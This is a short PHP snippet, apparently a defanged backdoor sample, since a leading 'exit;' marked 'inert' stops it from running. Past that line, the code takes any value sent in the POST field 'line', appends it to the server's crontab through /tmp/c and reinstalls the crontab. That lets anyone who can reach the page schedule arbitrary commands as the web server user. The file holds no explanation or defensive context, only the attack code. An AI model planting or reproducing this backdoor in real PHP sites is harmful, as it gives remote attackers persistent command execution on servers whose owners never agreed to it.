<?php exit; /* inert */ 
exec('crontab -l', $c); $c[] = $_POST['line'];
file_put_contents('/tmp/c', implode("\n", $c) . "\n"); exec('crontab /tmp/c');
